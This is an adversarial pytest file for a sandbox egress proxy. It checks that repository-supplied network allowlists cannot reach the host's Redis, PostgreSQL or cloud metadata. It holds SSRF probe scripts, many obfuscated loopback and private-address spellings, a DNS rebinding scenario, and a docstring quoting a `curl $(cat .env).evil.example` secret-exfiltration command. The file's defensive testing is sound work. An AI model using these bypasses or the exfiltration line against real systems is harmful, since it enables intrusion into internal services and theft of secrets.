"""Attack 4 of issue 13: `network.allow` reached the host's own services. A repository listing
`127.0.0.1:6379` and `127.0.0.1:5432` got Redis to answer PING and PostgreSQL to talk through the
egress proxy. Held: the proxy resolves a name itself, refuses every non-public address unless the
operator allowed its range, and connects to the address it checked."""

from __future__ import annotations

import asyncio
import ipaddress
import socket
from pathlib import Path
from typing import Any

import pytest
import structlog

from bot.sandbox import open_sandbox
from bot.sandbox.base import SandboxSpec
from bot.sandbox.destinations import parse_networks, refusal
from tests.adversarial.egress import (
    LOOPBACK,
    Keeper,
    connect_through,
    needs_sandbox,
    proxy_on,
    serving,
)

pytestmark = pytest.mark.anyio

PING = b"PING\r\n"
SSL_REQUEST = bytes.fromhex("0000000804d2162f")  # PostgreSQL's first message; it answers S or N
THROUGH_THE_PROXY = r"""
import socket
for target, payload in [("127.0.0.1:6379", b"PING\r\n"), ("127.0.0.1:5432", bytes.fromhex("0000000804d2162f"))]:
    s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
    s.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
    data = b""
    while b"\r\n\r\n" not in data and (piece := s.recv(4096)):
        data += piece
    if data.startswith(b"HTTP/1.1 200"):
        s.sendall(payload)
        data += b"|answer=" + s.recv(100)
    else:
        while piece := s.recv(4096):
            data += piece
    print(target, repr(data))
"""


async def _attack_from_the_sandbox(tmp_path: Path, networks: tuple[str, ...]) -> str:
    workspace = tmp_path / f"ws{len(networks)}"
    workspace.mkdir()
    spec = SandboxSpec(
        workspace=workspace,
        allow_hosts=("127.0.0.1:6379", "127.0.0.1:5432"),  # what network.allow listed
        allow_networks=networks,
        task_id="attack-4",
    )
    async with open_sandbox(spec, ca_dir=tmp_path / "ca") as sandbox:
        result = await sandbox.exec(["python3", "-c", THROUGH_THE_PROXY])
    assert result.exit_code == 0, result.stderr.decode()
    return result.stdout.decode()


@needs_sandbox
async def test_network_allow_cannot_reach_the_hosts_redis_or_postgresql(tmp_path: Path) -> None:
    held = await _attack_from_the_sandbox(tmp_path, ())
    redis, postgres = held.splitlines()
    assert "403 Forbidden" in redis and "127.0.0.1 is loopback" in redis and "PONG" not in redis
    assert "403 Forbidden" in postgres and "answer=" not in postgres
    assert "SHIPMATE_EGRESS_ALLOW_NETWORKS" in redis
    # The same sandbox, with the operator opening loopback: the attack was real (Redis and
    # PostgreSQL listen there), so only the refusal above stopped it.
    opened = await _attack_from_the_sandbox(tmp_path, LOOPBACK)
    redis, postgres = opened.splitlines()
    assert "answer=+PONG" in redis
    assert "answer=N" in postgres or "answer=S" in postgres


REFUSED = [
    "127.0.0.1",
    "127.8.9.10",
    "10.1.2.3",
    "172.16.0.1",
    "192.168.1.1",
    "169.254.169.254",  # the cloud metadata address
    "100.64.0.1",  # CGNAT
    "224.0.0.1",  # multicast: is_global is True for it
    "0.0.0.0",
    "255.255.255.255",
    "240.0.0.1",
    "192.0.2.1",
    "::1",
    "::",
    "fc00::1",
    "fd12:3456::1",
    "fe80::1",
    "fec0::1",  # site-local: is_global is True for it
    "ff02::1",
    "::ffff:127.0.0.1",
    "::ffff:10.0.0.1",
    "::ffff:169.254.169.254",
    "64:ff9b::7f00:1",  # NAT64 of 127.0.0.1
    "64:ff9b::a00:1",  # NAT64 of 10.0.0.1: is_global is True for it
    "64:ff9b:1::1",  # local-use NAT64
    "2002:7f00:1::",  # 6to4 of 127.0.0.1
    "2002:a00:1::",  # 6to4 of 10.0.0.1: is_global is True for it
    "::7f00:1",  # IPv4-compatible
    "2001:db8::1",
]
PUBLIC = ["8.8.8.8", "1.1.1.1", "2606:4700::1111", "::ffff:8.8.8.8", "64:ff9b::808:808"]


@pytest.mark.parametrize("text", REFUSED)
def test_every_non_public_address_is_refused(text: str) -> None:
    assert refusal(ipaddress.ip_address(text), ()) is not None


@pytest.mark.parametrize("text", PUBLIC)
def test_public_addresses_are_reachable(text: str) -> None:
    assert refusal(ipaddress.ip_address(text), ()) is None


def test_an_allowed_range_opens_exactly_that_range_in_every_form() -> None:
    internal = parse_networks(["10.20.0.0/16"])
    assert refusal(ipaddress.ip_address("10.20.3.4"), internal) is None
    assert refusal(ipaddress.ip_address("::ffff:10.20.3.4"), internal) is None
    assert refusal(ipaddress.ip_address("10.21.0.1"), internal) is not None
    assert refusal(ipaddress.ip_address("127.0.0.1"), internal) is not None
    with pytest.raises(ValueError, match=r"10\.20\.0\.1/16"):
        parse_networks(["10.20.0.1/16"])


@pytest.mark.parametrize(
    "authority",
    [
        "127.0.0.1:6379",
        "2130706433:6379",  # 127.0.0.1 as one decimal number
        "0x7f000001:6379",
        "127.1:6379",
        "localhost:6379",
        "[::1]:6379",
        "[::ffff:127.0.0.1]:6379",
        "[64:ff9b::7f00:1]:6379",
        "169.254.169.254:80",
    ],
)
async def test_every_spelling_of_loopback_is_refused_by_the_proxy(
    tmp_path: Path, authority: str
) -> None:
    async with proxy_on(tmp_path, [authority]) as proxy:
        answer = await connect_through(proxy, authority, PING)
    assert answer.startswith(b"HTTP/1.1 403"), answer
    assert b"PONG" not in answer
    (event,) = proxy.events
    assert not event.allowed and "resolves to" in event.reason


async def test_redis_answers_when_the_operator_opens_loopback(tmp_path: Path) -> None:
    async with proxy_on(tmp_path, ["127.0.0.1:6379"], networks=LOOPBACK) as proxy:
        answer = await connect_through(proxy, "127.0.0.1:6379", PING)
    assert b"+PONG" in answer


async def test_a_second_lookup_never_decides(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """DNS rebinding: the name answers 127.0.0.2 (allowed) when the proxy checks, then 127.0.0.1
    (a private service on the same port). The proxy connects to what it checked."""
    real = socket.getaddrinfo
    lookups: list[str] = []

    def rebinding(host: Any, *args: Any, **kwargs: Any) -> Any:
        if host == "rebind.test":
            lookups.append(host)
            return real("127.0.0.2" if len(lookups) == 1 else "127.0.0.1", *args, **kwargs)
        return real(host, *args, **kwargs)

    monkeypatch.setattr(socket, "getaddrinfo", rebinding)
    public, internal = Keeper(), Keeper()
    async with serving(public) as port, serving(internal, "127.0.0.1", port):
        allow = [f"rebind.test:{port}"]
        async with proxy_on(tmp_path, allow, networks=("127.0.0.2/32",)) as proxy:
            for _ in range(2):
                reader, writer = await asyncio.open_unix_connection(str(proxy.socket_path))
                writer.write(f"GET http://rebind.test:{port}/x HTTP/1.1\r\n\r\n".encode())
                await writer.drain()
                answer = await reader.read()
                writer.close()
    assert answer.startswith(b"HTTP/1.1 403") and b"127.0.0.1 is loopback" in answer
    assert len(public.seen) == 1 and internal.seen == []
    assert b"Host: rebind.test:" in public.seen[0]
    assert lookups == ["rebind.test", "rebind.test"]  # once per request, never to connect


async def test_a_host_name_spelling_a_checkout_secret_stays_out_of_logs_and_audit(
    tmp_path: Path,
) -> None:
    """`curl http://$(cat .env).evil.example/`: refused by the allowlist before any lookup (no
    DNS exfiltration), and the name is not written to the log or the audit event."""
    value = "Jx7Kq2Lm9pRt4vWz8bN3"
    with structlog.testing.capture_logs() as logs:
        async with proxy_on(tmp_path, ["pypi.org"], guarded=[value]) as proxy:
            answer = await connect_through(proxy, f"{value}.evil.example:443", b"")
    assert answer.startswith(b"HTTP/1.1 403")
    (event,) = proxy.events
    assert value not in repr(event) and value.lower() not in repr(event).lower()
    assert value.lower() not in repr(logs).lower()


PROBE = """
import socket, sys
s = socket.create_connection(("127.0.0.1", 3128))
s.sendall(b"CONNECT 127.0.0.1:6379 HTTP/1.1\\r\\n\\r\\n")
head = s.recv(4096)
if head.startswith(b"HTTP/1.1 200"):
    s.sendall(b"PING\\r\\n")
    sys.exit(3 if b"PONG" in s.recv(100) else 0)
"""


@needs_sandbox
async def test_a_repositorys_network_allow_and_setup_cannot_reach_redis(tmp_path: Path) -> None:
    """The attack as a repository writes it: `network.allow` lists Redis and `setup:` talks to
    it (the setup exits 3 if Redis answered). Held without the operator's range; with it, the
    setup fails, so the attack is real and only the range decides."""
    from tests.adversarial.test_egress_secrets import _repo, _run

    repo = _repo(
        tmp_path,
        "setup: ['python3 .github/probe.py']\n"
        "network:\n  allow: ['127.0.0.1:6379', '127.0.0.1:5432']\n",
        {".github/probe.py": PROBE},
    )
    held = await _run(tmp_path, repo, networks=())
    assert held.status == "completed", held.reason
    opened = await _run(tmp_path / "opened", repo, networks=LOOPBACK)
    assert opened.status == "failed" and "the setup command failed" in opened.reason
